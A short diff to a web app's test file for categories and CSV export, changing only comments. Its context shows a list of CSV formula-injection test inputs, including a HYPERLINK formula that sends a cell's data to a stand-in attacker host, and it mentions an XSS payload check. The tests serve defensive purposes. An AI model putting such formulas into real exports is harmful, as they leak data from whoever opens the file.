@@ -1,5 +1,5 @@
 /**
- * Categories (issue 5): create with uploads and rich texts, see the tile, edit, view, disable,
+ * Categories: create with uploads and rich texts, see the tile, edit, view, disable,
  * delete; the editor account without delete; an XSS payload that never runs on the view.
  */
 import { readFileSync } from 'node:fs';
@@ -220,7 +220,7 @@ test("the CSV export's header row reads like the list, not like the API", async 
   ]);
 });
 
-// Issue 19, item 3: a cell starting with =, +, - or @ is run by a spreadsheet.
+// CSV formula injection (docs/security.md): a cell starting with =, +, - or @ is run by a spreadsheet.
 const FORMULAS = [
   '=HYPERLINK("https://attacker.example/?d="&A3,"Open")',
   '+SUM(1+1)*cmd',
